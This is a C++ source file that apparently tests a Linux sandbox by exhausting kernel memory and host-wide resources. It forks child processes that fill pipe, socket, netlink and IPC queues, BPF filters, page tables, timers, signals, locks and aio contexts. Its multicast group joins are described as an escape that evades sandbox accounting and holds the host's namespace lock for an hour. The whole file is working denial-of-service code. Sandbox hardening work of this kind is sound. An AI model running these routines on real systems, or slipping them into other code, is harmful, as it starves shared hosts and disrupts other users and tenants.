// Line 20: memory of the kernel that a program pins without touching a page of its own: buffers,
// tables, queues and small objects, by as many processes as it takes. The argument is the number of
// bytes to reach. What an object weighs is counted too low rather than too high: payload where
// there is one, else a part of the structure's size.
#include <arpa/inet.h>
#include <linux/aio_abi.h>
#include <linux/filter.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/sock_diag.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/socket.h>
#include <sys/timerfd.h>
#include <sys/xattr.h>
#include <time.h>

#include "attack.hpp"

namespace {

using Bytes = unsigned long long;

constexpr int kChildren = 64;  // of 100 processes that a sandbox may have

char g_block[65536];

// Takes until `goal` is reached or the kernel refuses, and keeps it: what it got, errno says why.
using Fill = Bytes (*)(Bytes goal);

struct Report {
  Bytes held;
  int error;
};

// What the machine has left, in KiB: for the reader of a run; neighbours move it.
long available() {
  char text[4096];
  if (attack::slurp("/proc/meminfo", text, sizeof text) <= 0) {
    return 0;
  }
  const char* at = strstr(text, "MemAvailable:");
  return at != nullptr ? atol(at + 13) : 0;
}

// The child's report; ends the attack when the child was killed.
Report wait_for(pid_t child, int from) {
  Report report{};
  for (;;) {
    if (read(from, &report, sizeof report) == sizeof report) {
      return report;
    }
    int status = 0;
    if (waitpid(child, &status, WNOHANG) == child) {
      if (WIFSIGNALED(status)) {
        attack::stopped_by_signal(WTERMSIG(status), "the holder of the memory");
      }
      return {0, ECHILD};
    }
    usleep(1000);
  }
}

template <Fill kFill>
void spread() {
  Bytes goal = attack::number(0);
  memset(g_block, 1, sizeof g_block);
  int pipes[2];
  if (pipe2(pipes, O_NONBLOCK) != 0) {
    attack::broken("pipe");
  }
  long before = available();
  Bytes total = 0;
  int error = ENOBUFS;
  for (int process = 0; process < kChildren && total < goal; ++process) {
    pid_t child = fork();
    if (child < 0) {
      attack::stopped(errno, "fork");
    }
    if (child == 0) {
      errno = ENOBUFS;
      Report mine{kFill(goal - total), 0};
      mine.error = errno;
      (void)!write(pipes[1], &mine, sizeof mine);
      alarm(60);
      pause();
      _exit(0);
    }
    Report report = wait_for(child, pipes[0]);
    total += report.held;
    if (report.error != 0) {
      error = report.error;
    }
  }
  dprintf(1, "%llu bytes held; the machine has %ld KiB less\n", total, before - available());
  if (total < goal) {
    attack::stopped(error, "kernel memory");
  }
  attack::through("%llu bytes of kernel memory", total);
}

template <typename Make>
Bytes repeat(Bytes goal, Bytes weight, Make make) {
  Bytes held = 0;
  while (held < goal && make()) {
    held += weight;
  }
  return held;
}

Bytes write_all(int fd) {
  Bytes held = 0;
  ssize_t put = 0;
  while ((put = write(fd, g_block, sizeof g_block)) > 0) {
    held += static_cast<Bytes>(put);
  }
  return held;
}

Bytes pipes(Bytes goal) {
  Bytes held = 0;
  int pair[2];
  while (held < goal && pipe2(pair, O_NONBLOCK) == 0) {
    fcntl(pair[1], F_SETPIPE_SZ, 1 << 20);
    held += write_all(pair[1]);
  }
  return held;
}

Bytes sockets(Bytes goal) {
  Bytes held = 0;
  int pair[2];
  while (held < goal && socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair) == 0) {
    held += write_all(pair[0]) + write_all(pair[1]);
  }
  return held;
}

sockaddr_in loopback() {
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  return address;
}

// Connections that nobody reads from: what is sent waits in the receiver's queue. Few of them have
// full queues; of many each has the first message, which the kernel accepts under any limit.
template <int kMost>
Bytes tcp(Bytes goal) {
  sockaddr_in address = loopback();
  socklen_t size = sizeof address;
  auto* name = reinterpret_cast<sockaddr*>(&address);
  int listener = socket(AF_INET, SOCK_STREAM, 0);
  if (bind(listener, name, size) != 0 || listen(listener, 1) != 0 ||
      getsockname(listener, name, &size) != 0) {
    return 0;
  }
  Bytes held = 0;
  for (int count = 0; count < kMost && held < goal; ++count) {
    int near = socket(AF_INET, SOCK_STREAM, 0);
    if (near < 0 || connect(near, name, size) != 0) {
      break;
    }
    int far = accept(listener, nullptr, nullptr);
    if (far < 0) {
      break;
    }
    fcntl(near, F_SETFL, O_NONBLOCK);
    fcntl(far, F_SETFL, O_NONBLOCK);
    // The window opens while data moves: some more fits a moment later.
    for (int round = 0; round < 5; ++round) {
      held += write_all(near) + write_all(far);
      usleep(1000);
    }
  }
  return held;
}

// What the kernel itself says that a socket's queue holds.
Bytes queued(int fd) {
  unsigned figures[SK_MEMINFO_VARS] = {};
  socklen_t size = sizeof figures;
  if (getsockopt(fd, SOL_SOCKET, SO_MEMINFO, figures, &size) != 0) {
    return 0;
  }
  return figures[SK_MEMINFO_RMEM_ALLOC];
}

Bytes udp(Bytes goal) {
  Bytes held = 0;
  while (held < goal) {
    sockaddr_in address = loopback();
    socklen_t size = sizeof address;
    auto* name = reinterpret_cast<sockaddr*>(&address);
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    if (fd < 0 || bind(fd, name, size) != 0 || getsockname(fd, name, &size) != 0) {
      break;
    }
    int most = 1 << 30;
    setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &most, sizeof most);
    for (int i = 0; i < 16; ++i) {
      sendto(fd, g_block, 32768, 0, name, size);
    }
    held += queued(fd);
  }
  return held;
}

// Answers to questions about routes that nobody fetches.
Bytes netlink(Bytes goal) {
  Bytes held = 0;
  while (held < goal) {
    int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_NONBLOCK, NETLINK_ROUTE);
    if (fd < 0) {
      break;
    }
    int most = 1 << 30;
    setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &most, sizeof most);
    struct {
      nlmsghdr head;
      ifinfomsg body;
    } ask{};
    ask.head.nlmsg_len = sizeof ask;
    ask.head.nlmsg_type = RTM_GETLINK;
    ask.head.nlmsg_flags = NLM_F_REQUEST;
    ask.body.ifi_index = 1;
    for (int i = 0; i < 200; ++i) {
      (void)!send(fd, &ask, sizeof ask, 0);
    }
    held += queued(fd);
  }
  return held;
}

Bytes empty_sockets(Bytes goal) {
  return repeat(goal, 1024, [] { return socket(AF_INET, SOCK_STREAM, 0) >= 0; });
}

// Joining a group is the escape: nobody counts them for the sandbox, and taking 400,000 of them
// apart keeps the host's one lock of all network namespaces for an hour, after their end.
template <int kFamily>
void multicast() {
  int fd = socket(kFamily, SOCK_DGRAM, 0);
  if (fd < 0) {
    attack::broken("socket");
  }
  if (kFamily == AF_INET) {
    ip_mreqn group{};
    group.imr_ifindex = 1;
    group.imr_multiaddr.s_addr = htonl(0xe1000001);
    attack::verdict(setsockopt(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &group, sizeof group),
                    "IP_ADD_MEMBERSHIP");
  }
  ipv6_mreq group{};
  group.ipv6mr_interface = 1;
  group.ipv6mr_multiaddr.s6_addr[0] = 0xff;
  group.ipv6mr_multiaddr.s6_addr[1] = 0x05;
  group.ipv6mr_multiaddr.s6_addr[15] = 0x77;
  attack::verdict(setsockopt(fd, IPPROTO_IPV6, IPV6_JOIN_GROUP, &group, sizeof group),
                  "IPV6_JOIN_GROUP");
}

// The same for both families, by the calls that came later.
void multicast_group() {
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  group_req group{};
  group.gr_interface = 1;
  auto* address = reinterpret_cast<sockaddr_in*>(&group.gr_group);
  address->sin_family = AF_INET;
  address->sin_addr.s_addr = htonl(0xe1000002);
  attack::verdict(setsockopt(fd, IPPROTO_IP, MCAST_JOIN_GROUP, &group, sizeof group),
                  "MCAST_JOIN_GROUP");
}

// Filters of sockets, which the kernel keeps twice and compiles: machine code that belongs to
// nobody.
Bytes filters(Bytes goal) {
  static sock_filter code[4096];
  for (sock_filter& one : code) {
    one = {BPF_ALU | BPF_ADD | BPF_K, 0, 0, 0x12345678};
  }
  code[4095] = {BPF_RET | BPF_K, 0, 0, 0};
  sock_fprog program{4096, code};
  return repeat(goal, 32768, [&] {
    int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
    return fd >= 0 && setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program) == 0;
  });
}

Bytes epoll(Bytes goal) {
  int watched[400];
  for (int& fd : watched) {
    fd = eventfd(0, 0);
  }
  Bytes held = 0;
  while (held < goal) {
    int poll = epoll_create1(0);
    if (poll < 0) {
      break;
    }
    for (int fd : watched) {
      epoll_event event{};
      if (epoll_ctl(poll, EPOLL_CTL_ADD, fd, &event) != 0) {
        return held;
      }
      held += 128 + 64;  // an item and its place in the wait queue
    }
  }
  return held;
}

bool make_file(int number) {
  char name[64];
  snprintf(name, sizeof name, "/tmp/%d-%d", getpid(), number);
  int fd = open(name, O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
  close(fd);
  return fd >= 0;
}

// Every instance watches the same files: only marks are made.
Bytes inotify(Bytes goal) {
  for (int i = 0; i < 40; ++i) {
    make_file(i);
  }
  Bytes held = 0;
  while (held < goal) {
    int fd = inotify_init1(0);
    if (fd < 0) {
      break;
    }
    held += 256;
    for (int i = 0; i < 40; ++i) {
      char name[64];
      snprintf(name, sizeof name, "/tmp/%d-%d", getpid(), i);
      if (inotify_add_watch(fd, name, IN_ALL_EVENTS) < 0) {
        return held;
      }
      held += 64;
    }
  }
  return held;
}

Bytes events(Bytes goal) {
  return repeat(goal, 192, [] { return eventfd(0, 0) >= 0; });
}

Bytes timers(Bytes goal) {
  return repeat(goal, 256, [] { return timerfd_create(CLOCK_MONOTONIC, 0) >= 0; });
}

Bytes posix_timers(Bytes goal) {
  return repeat(goal, 256, [] {
    timer_t timer;
    sigevent event{};
    event.sigev_notify = SIGEV_SIGNAL;
    event.sigev_signo = SIGRTMIN;
    return timer_create(CLOCK_MONOTONIC, &event, &timer) == 0;
  });
}

Bytes signals(Bytes goal) {
  sigset_t all;
  sigfillset(&all);
  sigprocmask(SIG_BLOCK, &all, nullptr);
  return repeat(goal, 80, [] { return sigqueue(getpid(), SIGRTMIN, sigval{}) == 0; });
}

// Only tables: every page is the same one of zeros.
Bytes page_tables(Bytes goal) {
  constexpr size_t kSpan = 1ul << 30;
  Bytes held = 0;
  while (held < goal) {
    void* area =
        mmap(nullptr, kSpan, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    if (area == MAP_FAILED) {
      break;
    }
    madvise(area, kSpan, MADV_NOHUGEPAGE);
    for (size_t at = 0; at < kSpan && held < goal; at += 2 << 20) {
      (void)*(static_cast<volatile char*>(area) + at);
      held += 4096;
    }
  }
  return held;
}

Bytes mappings(Bytes goal) {
  bool odd = false;
  return repeat(goal, 160, [&] {
    odd = !odd;
    return mmap(nullptr, 4096, odd ? PROT_READ : PROT_NONE, MAP_SHARED | MAP_ANONYMOUS, -1, 0) !=
           MAP_FAILED;
  });
}

Bytes sysv_messages(Bytes goal) {
  struct {
    long type;
    char text[8192];
  } message{1, {}};
  Bytes held = 0;
  while (held < goal) {
    int queue = msgget(IPC_PRIVATE, IPC_CREAT | 0600);
    if (queue < 0) {
      break;
    }
    held += repeat(goal, sizeof message.text,
                   [&] { return msgsnd(queue, &message, sizeof message.text, IPC_NOWAIT) == 0; });
  }
  return held;
}

Bytes sysv_semaphores(Bytes goal) {
  return repeat(goal, 32000 * 64, [] { return semget(IPC_PRIVATE, 32000, IPC_CREAT | 0600) >= 0; });
}

Bytes message_queues(Bytes goal) {
  int number = 0;
  return repeat(goal, 10 * 8192, [&] {
    char name[64];
    snprintf(name, sizeof name, "/q%d-%d", getpid(), number++);
    mq_attr attributes{};
    attributes.mq_maxmsg = 10;
    attributes.mq_msgsize = 8192;
    mqd_t queue = mq_open(name, O_CREAT | O_RDWR, 0600, &attributes);
    if (queue < 0) {
      return false;
    }
    for (int i = 0; i < 10; ++i) {
      mq_send(queue, g_block, 8192, 0);
    }
    return true;
  });
}

// Every second byte of some files, so that no two of them join.
Bytes locks(Bytes goal) {
  Bytes held = 0;
  for (int file = 0; file < 100 && held < goal; ++file) {
    char name[64];
    snprintf(name, sizeof name, "/tmp/lock%d-%d", getpid(), file);
    int fd = open(name, O_CREAT | O_RDWR, 0600);
    if (fd < 0) {
      break;
    }
    off_t at = 0;
    Bytes most = held + 2000 * 160;
    held += repeat(most < goal ? 2000 * 160 : goal - held, 160, [&] {
      struct flock lock{};
      lock.l_type = F_WRLCK;
      lock.l_start = at += 2;
      lock.l_len = 1;
      return fcntl(fd, F_SETLK, &lock) == 0;
    });
  }
  return held;
}

// Attributes of one file, which are no data and no file.
Bytes attributes(Bytes goal) {
  make_file(0);
  char file[64];
  snprintf(file, sizeof file, "/tmp/%d-0", getpid());
  int number = 0;
  return repeat(goal, 32768, [&] {
    char name[64];
    snprintf(name, sizeof name, "user.a%d", number++);
    return setxattr(file, name, g_block, 32768, 0) == 0;
  });
}

Bytes terminals(Bytes goal) {
  return repeat(goal, 4096, [] { return open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0; });
}

// The number of events is one for the whole host.
Bytes aio(Bytes goal) {
  return repeat(goal, 1024 * 32, [] {
    aio_context_t context = 0;
    return syscall(SYS_io_setup, 1024, &context) == 0;
  });
}

// Takes all that the kernel gives of a kind and keeps it until standard input ends.
void exhaust() {
  const char* kind = attack::argument(0);
  constexpr Bytes kAll = ~0ULL;
  if (strcmp(kind, "inotify") == 0) {
    repeat(kAll, 1, [] { return inotify_init1(0) >= 0; });
  } else if (strcmp(kind, "signals") == 0) {
    signals(kAll);
  }
  dprintf(1, "ready\n");
  char byte;
  while (read(0, &byte, 1) > 0) {
  }
  _exit(0);
}

// One of the same kind, as any program needs it.
void use() {
  const char* kind = attack::argument(0);
  if (strcmp(kind, "inotify") == 0) {
    attack::verdict(inotify_init1(0), "inotify_init");
  }
  if (strcmp(kind, "signals") == 0) {
    sigset_t set;
    sigemptyset(&set);
    sigaddset(&set, SIGRTMIN);
    sigprocmask(SIG_BLOCK, &set, nullptr);
    attack::verdict(sigqueue(getpid(), SIGRTMIN, sigval{}), "sigqueue");
  }
  errno = 0;
  attack::broken("no such kind");
}

void io_setup() {
  aio_context_t context = 0;
  attack::verdict(syscall(SYS_io_setup, 1, &context), "io_setup");
}

constexpr attack::Attack kAttacks[] = {{"pipes", spread<pipes>},
                                       {"sockets", spread<sockets>},
                                       {"tcp", spread<tcp<4>>},
                                       {"tcp_crowd", spread<tcp<1000>>},
                                       {"udp", spread<udp>},
                                       {"netlink", spread<netlink>},
                                       {"empty_sockets", spread<empty_sockets>},
                                       {"multicast", multicast<AF_INET>},
                                       {"multicast6", multicast<AF_INET6>},
                                       {"multicast_group", multicast_group},
                                       {"filters", spread<filters>},
                                       {"epoll", spread<epoll>},
                                       {"inotify", spread<inotify>},
                                       {"events", spread<events>},
                                       {"timers", spread<timers>},
                                       {"posix_timers", spread<posix_timers>},
                                       {"signals", spread<signals>},
                                       {"page_tables", spread<page_tables>},
                                       {"mappings", spread<mappings>},
                                       {"sysv_messages", spread<sysv_messages>},
                                       {"sysv_semaphores", spread<sysv_semaphores>},
                                       {"message_queues", spread<message_queues>},
                                       {"locks", spread<locks>},
                                       {"attributes", spread<attributes>},
                                       {"terminals", spread<terminals>},
                                       {"aio", spread<aio>},
                                       {"exhaust", exhaust},
                                       {"use", use},
                                       {"io_setup", io_setup}};

}  // namespace

int main(int argc, char** argv) { return attack::choose(argc, argv, kAttacks); }
